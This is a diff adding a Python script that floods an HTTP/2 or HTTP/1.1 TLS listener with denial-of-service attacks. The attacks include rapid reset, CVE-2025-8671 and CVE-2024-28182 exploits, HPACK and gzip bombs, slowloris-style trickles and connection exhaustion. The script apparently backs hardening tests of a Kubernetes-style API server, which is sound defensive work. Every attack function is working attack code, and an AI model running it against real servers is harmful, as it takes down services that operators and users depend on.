@@ -1,0 +1,349 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""Attacks on a listener: flood.py KIND HOST:PORT CA [CERT KEY] [SECONDS] [PATH]
+
+Each goes on for SECONDS or until the listener has had enough; the last line says what was sent and how it ended. No
+assertion is made here: flood_* in tests/hostile watch what the listener costs and whether others are answered."""
+import os
+import random
+import resource
+import selectors
+import socket
+import ssl
+import struct
+import sys
+import time
+
+kind, address, ca = sys.argv[1:4]
+cert, key = (sys.argv[4:6] + ["", ""])[:2]
+seconds = float((sys.argv[6:7] or ["5"])[0])
+path = (sys.argv[7:8] or ["/api/v1/namespaces"])[0]
+host, port = address.rsplit(":", 1)
+end = time.monotonic() + seconds
+resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+
+
+def context(alpn=("h2",), version=None):
+    made = ssl.create_default_context(cafile=ca)
+    made.check_hostname = False
+    if cert:
+        made.load_cert_chain(cert, key)
+    if version:
+        made.maximum_version = version
+    made.set_alpn_protocols(list(alpn))
+    return made
+
+
+def plain():
+    return socket.create_connection((host, int(port)), timeout=10)
+
+
+def connect(alpn=("h2",)):
+    return context(alpn).wrap_socket(plain(), server_hostname="localhost")
+
+
+def frame(what, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([what, flags]) + struct.pack(">I", stream) + payload
+
+
+def text(value):
+    assert len(value) < 127
+    return bytes([len(value)]) + value.encode()
+
+
+def head(target=path, more=()):
+    fields = ((":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", target), *more)
+    return b"".join(b"\x10" + text(name) + text(value) for name, value in fields)
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
+
+
+def opened(settings=b""):
+    connection = connect()
+    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
+    return connection
+
+
+def drain(connection):
+    """Reads what has come; the error code of a GOAWAY, if one did."""
+    connection.setblocking(False)
+    try:
+        while True:
+            piece = connection.recv(1 << 16)
+            if not piece:
+                raise ConnectionError("closed")
+    except (BlockingIOError, ssl.SSLWantReadError):
+        pass
+    finally:
+        connection.settimeout(10)
+
+
+def repeat(make, settings=b"", read=True):
+    """Sends what make(n) gives, over a new connection whenever one ends."""
+    sent = connections = refused = 0
+    while time.monotonic() < end:
+        try:
+            connection = opened(settings)
+            connections += 1
+            stream = 1
+            while time.monotonic() < end:
+                connection.sendall(b"".join(make(stream + 2 * i) for i in range(50)))
+                stream += 100
+                sent += 50
+                if read:
+                    drain(connection)
+        except (OSError, ssl.SSLError):
+            refused += 1
+            time.sleep(0.02)
+    return f"{sent} sent over {connections} connections, {refused} ended by the listener"
+
+
+def rapid_reset():
+    return repeat(lambda n: frame(HEADERS, 5, n, head()) + frame(RST, 0, n, struct.pack(">I", 8)))
+
+
+def made_you_reset():
+    """The client breaks each stream so that the listener is who resets it (CVE-2025-8671)."""
+    broken = [lambda n: frame(WINDOW, 0, n, struct.pack(">I", 0)), lambda n: frame(WINDOW, 0, n, b"\x7f\xff\xff\xff") * 2,
+              lambda n: frame(DATA, 0, n, b"x"), lambda n: frame(PRIORITY, 0, n, struct.pack(">IB", n, 1)),
+              lambda n: frame(HEADERS, 5, n, head())]
+    return repeat(lambda n: frame(HEADERS, 5, n, head()) + broken[n // 2 % len(broken)](n))
+
+
+def settings():
+    return repeat(lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n % 1000)))
+
+
+def settings_unread():
+    return repeat(lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n % 1000)), read=False)
+
+
+def ping():
+    return repeat(lambda n: frame(PING, 0, 0, struct.pack(">Q", n)), read=False)
+
+
+def priority():
+    return repeat(lambda n: frame(PRIORITY, 0, n, struct.pack(">IB", 0, n % 256)))
+
+
+def window_updates():
+    return repeat(lambda n: frame(WINDOW, 0, 0, struct.pack(">I", 1)))
+
+
+def unknown_frames():
+    return repeat(lambda n: frame(200, 255, n, b"x" * 1000))
+
+
+def empty_data():
+    """One request whose body is empty frames without end."""
+    more = (("content-type", "application/json"),)
+    begin = frame(HEADERS, 4, 1, head("/api/v1/namespaces/team/configmaps", more).replace(text("GET"), text("POST")))
+    return repeat(lambda n: (begin if n == 1 else b"") + frame(DATA, 0, 1))
+
+
+def continuation():
+    """A header block that never ends (CVE-2024-28182 and its kin)."""
+    part = b"\x10" + text("x" * 20) + text("y" * 100)
+    return repeat(lambda n: (frame(HEADERS, 1, 1, head()) if n == 1 else b"") + frame(CONTINUATION, 0, 1, part))
+
+
+def hpack_bomb():
+    """A large field goes into the dynamic table once, and is named thousands of times."""
+    large = b"\x40" + text("x" * 60) + b"\x7f" + bytes([0x80 | (3900 - 127) % 128, (3900 - 127) // 128]) + b"z" * 3900
+
+    def bomb(n):
+        block = head() + (large if n == 1 else b"") + b"\xbe" * 8000
+        return frame(HEADERS, 5, n, block)
+    return repeat(bomb)
+
+
+def many_streams():
+    return repeat(lambda n: frame(HEADERS, 5, n, head(path + "?watch=1")))
+
+
+def window_stall():
+    """Streams whose window is nothing: whatever is answered has to wait."""
+    connections, requests = [], 0
+    while len(connections) < 40 and time.monotonic() < end:
+        try:
+            connection = opened(struct.pack(">HI", 4, 0))
+            for n in range(1, 201, 2):
+                connection.sendall(frame(HEADERS, 5, n, head()))
+                requests += 1
+            connections.append(connection)
+        except (OSError, ssl.SSLError):
+            time.sleep(0.05)
+    alive = 0
+    while time.monotonic() < end:
+        time.sleep(0.2)
+    for connection in connections:
+        try:
+            drain(connection)
+            alive += 1
+        except (OSError, ssl.SSLError):
+            pass
+    return f"{requests} requests without a window over {len(connections)} connections, {alive} still there"
+
+
+def reader_that_stops():
+    """Asks for much, again and again, and reads nothing."""
+    connections, requests = [], 0
+    for i in range(40):
+        if time.monotonic() > end:
+            break
+        try:
+            sock = plain()
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            connection = context(("h2", "http/1.1")[i % 2:][:1]).wrap_socket(sock, server_hostname="localhost")
+            if i % 2:
+                connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 20)
+                requests += 20
+            else:
+                connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))
+                connection.sendall(b"".join(frame(HEADERS, 5, n, head()) for n in range(1, 101, 2)))
+                requests += 50
+            connections.append(connection)
+        except (OSError, ssl.SSLError):
+            pass
+    while time.monotonic() < end:
+        time.sleep(0.2)
+    return f"{requests} answers unread over {len(connections)} connections"
+
+
+def slow(begin, piece):
+    """Each connection says a byte now and then, and never all."""
+    alive = []
+    for _ in range(300):
+        try:
+            connection = connect(("http/1.1",))
+            connection.sendall(begin)
+            alive.append(connection)
+        except (OSError, ssl.SSLError):
+            pass
+    made = len(alive)
+    while time.monotonic() < end:
+        for connection in list(alive):
+            try:
+                connection.sendall(piece)
+            except (OSError, ssl.SSLError):
+                alive.remove(connection)
+        time.sleep(0.5)
+    return f"{made} connections, {len(alive)} still there"
+
+
+def slow_head():
+    return slow(f"GET {path} HTTP/1.1\r\nHost: x\r\nX: ".encode(), b"a")
+
+
+def slow_body():
+    return slow(b"POST /api/v1/namespaces/team/configmaps HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{", b" ")
+
+
+def pipeline():
+    sent = ended = 0
+    while time.monotonic() < end:
+        try:
+            connection = connect(("http/1.1",))
+            while time.monotonic() < end:
+                connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 100)
+                sent += 100
+        except (OSError, ssl.SSLError):
+            ended += 1
+    return f"{sent} requests in pipelines nobody reads, {ended} ended by the listener"
+
+
+def huge_head():
+    sent = ended = 0
+    while time.monotonic() < end:
+        try:
+            connection = connect(("http/1.1",))
+            connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n".encode())
+            while time.monotonic() < end:
+                connection.sendall(b"X-Y: " + b"z" * 8000 + b"\r\n")
+                sent += 8007
+        except (OSError, ssl.SSLError):
+            ended += 1
+    return f"{sent} bytes of heads, {ended} ended by the listener"
+
+
+def gzip_bomb():
+    """A body that says it is compressed, a thousandfold."""
+    import gzip
+    bomb = gzip.compress(b'{"metadata":{"name":"evil-bomb"},"data":{"x":"' + b"0" * (64 << 20) + b'"}}', 9)
+    codes = {}
+    while time.monotonic() < end:
+        try:
+            connection = connect(("http/1.1",))
+            connection.sendall(b"POST /api/v1/namespaces/team/configmaps HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
+                               b"Content-Encoding: gzip\r\nContent-Length: " + str(len(bomb)).encode() + b"\r\n\r\n" + bomb)
+            code = connection.recv(4096)[9:12].decode()
+        except (OSError, ssl.SSLError):
+            code = "cut"
+        codes[code] = codes.get(code, 0) + 1
+    return f"{len(bomb)} bytes that mean 64 MiB, answered {codes}"
+
+
+def handshakes():
+    """First messages of TLS, whole and broken, and no more."""
+    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(505)
+    made = 0
+    held = []
+    while time.monotonic() < end:
+        try:
+            sock = plain()
+            sock.sendall(random.choice((hello, hello[:7], b"\x16\x03\x01\xff\xff" + hello * 30, b"GET / HTTP/1.1\r\n\r\n", os.urandom(64))))
+            made += 1
+            if made % 4 == 0:
+                held.append(sock)
+        except OSError:
+            pass
+    return f"{made} handshakes begun, {len(held)} left open"
+
+
+def full_handshakes():
+    made = failed = 0
+    plainly = context(("http/1.1",))
+    while time.monotonic() < end:
+        try:
+            plainly.wrap_socket(plain(), server_hostname="localhost").close()
+            made += 1
+        except (OSError, ssl.SSLError):
+            failed += 1
+    return f"{made} handshakes, {failed} failed"
+
+
+def idle():
+    """As many connections as the listener takes, shaken hands with, and silence."""
+    wanted = int(os.environ.get("FLOOD_CONNECTIONS", "10000"))
+    held, failed = [], 0
+    once = context(("http/1.1",))
+    while len(held) < wanted and time.monotonic() < end and failed < 50:
+        try:
+            sock = plain()
+            if len(held) % 20 == 0 and cert:
+                sock = once.wrap_socket(sock, server_hostname="localhost")
+            held.append(sock)
+        except (OSError, ssl.SSLError):
+            failed += 1
+    print(f"{len(held)} connections held", flush=True)
+    watched = selectors.DefaultSelector()
+    for sock in held:
+        watched.register(sock, selectors.EVENT_READ)
+    gone = 0
+    while time.monotonic() < end:
+        for ready, _ in watched.select(0.5):
+            try:
+                if ready.fileobj.recv(4096) == b"":
+                    raise OSError
+            except (BlockingIOError, ssl.SSLWantReadError):
+                continue
+            except OSError:
+                watched.unregister(ready.fileobj)
+                ready.fileobj.close()
+                gone += 1
+    return f"{len(held)} connections, {gone} closed by the listener, {failed} refused"
+
+
+print(globals()[kind]())
